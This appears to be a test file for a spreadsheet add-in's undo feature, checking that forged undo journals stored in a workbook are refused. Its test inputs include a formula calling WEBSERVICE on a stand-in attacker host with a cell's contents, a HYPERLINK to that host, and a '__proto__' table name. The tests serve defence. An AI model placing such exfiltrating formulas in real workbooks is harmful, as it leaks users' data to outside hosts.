import { readFileSync } from 'node:fs';
import { createOfficeWorkbook } from '../../../src/adapters/office';
import { fileSubmissions, FileWorkbook } from '../../../src/adapters/files';
import { readSource, readState, takeBackLastRun, type WorkbookPort, writePlan } from '../../../src/application';
import { collate, prepareWrite } from './at-once';
import { kent2025 } from '../../../src/domain/framework';
import { type BookGrid } from '../../../src/domain/grid';
import { restorePointOf } from '../../../src/domain/sheets';
import { journalChanges, laterFormat } from '../../../src/domain/state';
import { type Change, type Edit, text } from '../../../src/domain/workbook';
import { createExcelHost, type ExcelHost } from '../../../src/preview/excel-host';
import { loadOfficeInNode } from '../../preview/excel-host/load-office-in-node';
import { requestsOver } from '../requests-over';

const DATES = { planDate: { year: 2025, month: 1, day: 30 }, asOf: { year: 2025, month: 2, day: 1 } };
const COMMUNITIES = 'assets/samples/submissions/Communities.xlsx';

const whole = (port: WorkbookPort): Promise<BookGrid> => port.readBook({ includeHidden: true });

async function collateInto(port: WorkbookPort, runId: string): Promise<void> {
  const now = await whole(port);
  const framework = kent2025();
  const submission = await fileSubmissions.open('Communities.xlsx', new Uint8Array(readFileSync(COMMUNITIES)));
  const source = readSource('Communities.xlsx', submission, { framework, includeHidden: false });
  const collated = collate([source], readState(now), { framework, ...DATES, take: 'newest' });
  await writePlan(
    port,
    prepareWrite(collated, now, () => null, runId),
  );
}

type Sheets = 'own sheet' | 'plan alone';

async function made(sheets: Sheets): Promise<BookGrid> {
  const file = await FileWorkbook.create();
  const add = (sheet: string): Change => ({ edit: { type: 'add sheet', sheet, visibility: 'visible', tabColour: null }, undo: null });
  if (sheets === 'own sheet') {
    const area = { top: 0, bottom: 0, left: 0, right: 0 };
    const words: Change = {
      edit: { type: 'write cells', sheet: 'My own notes', area, cells: [[text('mine')]], expected: null },
      undo: null,
    };
    await file.apply([[add('My own notes'), words]]);
  }
  await collateInto(file, 'run 1');
  return whole(file);
}

const plans = new Map<Sheets, Promise<BookGrid>>();

/** A workbook of the user’s own with a plan in it, or one with nothing but a plan, open in the host. */
async function opened(sheets: Sheets = 'own sheet'): Promise<{ host: ExcelHost; port: WorkbookPort }> {
  const plan = plans.get(sheets) ?? made(sheets);
  plans.set(sheets, plan);
  const host = createExcelHost(await plan, { today: DATES.asOf });
  return { host, port: createOfficeWorkbook(loadOfficeInNode(host, { shared: true }).Excel) };
}

const names = (host: ExcelHost): string[] => host.snapshot().sheets.map(({ name }) => name);
const visible = (host: ExcelHost): string[] => names(host).filter((name) => name !== '_plan');

async function withJournal(port: WorkbookPort, undo: readonly Edit[], state: 'open' | 'closed' = 'open'): Promise<void> {
  await port.apply([journalChanges(await whole(port), { runId: '31 January, 14:02 · x', state, undo })]);
}

const restored = (formula: string, sheet = 'All priorities'): Edit => ({
  type: 'write cells',
  sheet,
  area: { top: 0, bottom: 0, left: 20, right: 20 },
  cells: [[{ kind: 'restore', value: 'x', format: 'General', formula }]],
  expected: null,
  left: [['']],
});

const written = (words: string, left?: string): Edit => ({
  type: 'write cells',
  sheet: 'All priorities',
  area: { top: 4, bottom: 6, left: 1, right: 1 },
  cells: [
    [{ kind: 'restore', value: words, format: '@' }],
    [{ kind: 'restore', value: words, format: '@' }],
    [{ kind: 'restore', value: words, format: '@' }],
  ],
  expected: null,
  ...(left === undefined ? {} : { left: [[left], [left], [left]] }),
});

describe('what a workbook remembers is followed only as far as this program wrote it', () => {
  const cases: readonly [string, readonly Edit[], RegExp][] = [
    [
      'the user’s own sheet',
      [{ type: 'remove sheet', sheet: 'My own notes' }],
      /it would remove the sheet “My own notes”, which it did not make/,
    ],
    [
      'the user’s own sheet, in other capitals of its record',
      [{ type: 'remove sheet', sheet: '_plan' }],
      /it would remove the sheet “_plan”/,
    ],
    ['cells of the user’s own sheet', [restored('=1+1', 'My own notes')], /it would write to the sheet “My own notes”/],
    [
      'a formula that asks the network',
      [restored('=WEBSERVICE("http://evil.example/"&A5)')],
      /the formula =WEBSERVICE\("http:\/\/evil\.example.* to the sheet “All priorities”/,
    ],
    ['a link out of the workbook', [restored('=HYPERLINK("http://evil.example","Open")')], /the formula =HYPERLINK/],
    ['a formula in the program’s own memory', [restored('=1+1', '_plan')], /the formula =1\+1/],
    ['the user’s own table', [{ type: 'remove table', sheet: 'All priorities', table: 'Mine' }], /the table “Mine”, which it did not make/],
    ['a sheet that is not there', [restored('=1+1', 'Somewhere')], /it names the sheet “Somewhere”, which is not there/],
    ['plain words, of which it does not say what they stand in place of', [written('forged')], /it does not say what it would take back/],
    [
      'a chart that the run did not draw',
      [{ type: 'remove chart', sheet: 'Council summary', chart: 'My chart' }],
      /it would remove the chart “My chart” from the sheet “Council summary”, which it did not make/,
    ],
    [
      'a table to the end of the sheet',
      [{ type: 'resize table', sheet: 'All priorities', table: 'AllPriorities', area: { top: 3, left: 0, bottom: 1_048_575, right: 18 } }],
      /the table “AllPriorities” would reach far beyond what stands on the sheet/,
    ],
    [
      'a table in place of none',
      [
        {
          ...{ type: 'add table', sheet: 'All priorities', table: '__proto__', style: 'x', banded: true },
          area: { top: 20, left: 0, bottom: 22, right: 3 },
        },
      ],
      /it would make the table “__proto__” on the sheet “All priorities”, in place of none/,
    ],
    [
      'one bad step after good ones',
      [
        { type: 'remove sheet', sheet: 'Changes' },
        { type: 'remove sheet', sheet: 'My own notes' },
      ],
      /My own notes/,
    ],
    [
      'an edit that is none of taking back',
      [{ type: 'add sheet', sheet: 'New', visibility: 'visible', tabColour: null }],
      /one of its steps cannot be read/,
    ],
  ];
  it.each(cases)('%s', async (_, undo, refusal) => {
    for (const state of ['open', 'closed'] as const) {
      const { host, port } = await opened();
      await withJournal(port, undo, state);
      const before = host.snapshot();
      const point = restorePointOf(await whole(port));
      expect([point?.refusal, point?.edits]).toEqual([expect.stringMatching(refusal), []]);
      await expect(takeBackLastRun(port)).rejects.toMatchObject({ code: 'restore refused', message: point?.refusal });
      expect(host.snapshot()).toEqual(before);
    }
  });

  it('a formula of the user’s own sheet that refers to a moved comment’s cell is written again only if it stands there', async () => {
    const { host, port } = await opened();
    const moving: Edit = {
      type: 'move comments',
      sheet: 'Findings',
      moves: [{ kind: 'comment', known: 'gone since', from: { row: 5, column: 1 }, to: { row: 6, column: 1 } }],
    };
    await withJournal(port, [moving, restored('=1+1', 'My own notes'), moving], 'closed');
    const before = host.snapshot().sheets.find(({ name }) => name === 'My own notes');
    const point = restorePointOf(await whole(port));
    expect([point?.refusal, point?.steps.map(({ sheet, cells, comments }) => [sheet, cells, comments])]).toEqual([
      null,
      [['Findings', 0, 1]],
    ]);
    await takeBackLastRun(port);
    expect(host.snapshot().sheets.find(({ name }) => name === 'My own notes')).toEqual(before);
    await withJournal(port, [
      moving,
      { ...restored('=1+1', 'My own notes'), cells: [[{ kind: 'restore', value: 'evil', format: 'General' }]] } as Edit,
    ]);
    expect(restorePointOf(await whole(port))?.refusal).toMatch(/it would write to the sheet “My own notes”/);
  });

  it('a formula that only calculates, or stands there now, is put back', async () => {
    const { port } = await opened();
    await withJournal(port, [restored('=SUM(A1:A3)&"http://"'), restored(`=HYPERLINK("#'All priorities'!A5","COM-01")`)]);
    expect(restorePointOf(await whole(port))?.refusal).toBeNull();
  });
});

it('takes back a plan that is all of its workbook, and leaves an empty sheet in its place', async () => {
  for (const state of ['open', 'closed'] as const) {
    const { host, port } = await opened('plan alone');
    const undo = visible(host).map((sheet): Edit => ({ type: 'remove sheet', sheet }));
    await withJournal(port, undo, state);
    const point = await takeBackLastRun(port);
    expect(point?.steps.map(({ sheet, what }) => [sheet, what])).toEqual(undo.map(({ sheet }) => [sheet, 'remove']));
    expect(visible(host)).toEqual(['Sheet1']);
  }
});

describe('that fails', () => {
  /** Restores a refreshed plan with every request failing at its first action in turn. */
  async function attempt(
    request: number,
    ever: boolean,
  ): Promise<{ before: unknown; after: unknown; code: string; host: ExcelHost; port: WorkbookPort }> {
    const { host, port } = await opened();
    const before = host.snapshot();
    const at = host.requests.length + request;
    if (ever) host.faults.failFrom(at);
    else host.faults.failAt(at, 0);
    const code = await takeBackLastRun(port).then(
      () => 'done',
      (error: unknown) => (error as { code: string }).code,
    );
    host.faults.clear();
    return { before, after: host.snapshot(), code, host, port };
  }

  it('at any request says truly whether the workbook is as it was, and can be gone on with', async () => {
    const rehearsal = await opened();
    const first = rehearsal.host.requests.length;
    await takeBackLastRun(rehearsal.port);
    const done = visible(rehearsal.host);
    const requests = rehearsal.host.requests.length - first;
    const codes = new Set<string>();
    for (const ever of [false, true]) {
      for (let request = 0; request < requests; request += 1) {
        const { before, after, code, host, port } = await attempt(request, ever);
        codes.add(code);
        if (code === 'done') continue;
        if (code !== 'write torn') expect([code, after]).toEqual([code, before]);
        const { journal } = readState(await whole(port));
        if (journal.state !== 'none') await takeBackLastRun(port);
        expect(visible(host)).toEqual(done);
      }
    }
    expect(codes).toContain('write torn');
  });
});

it('is told by the pane, which shows the steps before they are done', async () => {
  const { host, port } = await opened();
  await withJournal(port, [{ type: 'remove sheet', sheet: 'Changes' }]);
  const requests = requestsOver(port, DATES.asOf, 'run 2');
  const step = { sheet: 'Changes', what: 'remove', cells: 0, comments: 0, typed: [] };
  expect(await requests.lastRun()).toEqual({
    laterVersion: null,
    restore: { state: 'open', startedAt: '31 January, 14:02', steps: [step], refusal: null, isAll: false },
  });
  expect(await requests.restore(new AbortController().signal, () => undefined)).toEqual([step]);
  expect(visible(host)).not.toContain('Changes');
  expect(await requests.lastRun()).toEqual({ laterVersion: null, restore: null });
});

describe('a plan of a later version', () => {
  /** As a later version would leave it: its version, where this one writes its own or among the run's properties, and a table of its own. */
  async function later(
    places: readonly (readonly [row: number, column: number, words: string])[],
  ): Promise<{ host: ExcelHost; port: WorkbookPort }> {
    const it_ = await opened();
    const changes = places.map(([row, column, words]): Change => {
      const area = { top: row, bottom: row, left: column, right: column };
      return { edit: { type: 'write cells', sheet: '_plan', area, cells: [[text(words)]], expected: null }, undo: null };
    });
    await it_.port.apply([changes]);
    return it_;
  }

  it.each<[string, readonly (readonly [number, number, string])[], string]>([
    ['in its table of the format', [[1, 113, '3']], '3'],
    [
      'among the properties of the run',
      [
        [4, 0, 'schema'],
        [4, 1, '99'],
      ],
      '99',
    ],
    ['in words that are no number', [[1, 113, '3.1-beta']], '3.1-beta'],
  ])('%s is left whole', async (_, places, version) => {
    const { host, port } = await later(places);
    const before = host.snapshot();
    expect(laterFormat(await whole(port))).toBe(version);
    const requests = requestsOver(port, DATES.asOf, 'run 2');
    const { signal } = new AbortController();
    const refused = { code: 'later version' };
    await expect(requests.planCollation([], signal, () => undefined)).rejects.toMatchObject(refused);
    await expect(requests.chooseFramework(readFileSync('src/domain/framework/kent-2025.json', 'utf8'))).rejects.toMatchObject(refused);
    await expect(requests.restore(signal, () => undefined)).rejects.toMatchObject(refused);
    expect(await requests.lastRun()).toEqual({ laterVersion: version, restore: null });
    expect(host.snapshot()).toEqual(before);
  });

  it.each(['x', '', '-', '2', '1', '2 ', '0'])(
    'is not one whose cell of the version says %p, damaged or of this version',
    async (words) => {
      const { port } = await later([[1, 113, words]]);
      expect(laterFormat(await whole(port))).toBeNull();
    },
  );

  it('is not one of this version, nor one of version 0.1.0, which wrote none', async () => {
    const { port } = await opened();
    expect(laterFormat(await whole(port))).toBeNull();
    const old = await FileWorkbook.open('old.xlsx', new Uint8Array(readFileSync('test/data/plans-0.1.0/submissions.xlsx')));
    expect(laterFormat(await whole(old))).toBeNull();
  });
});
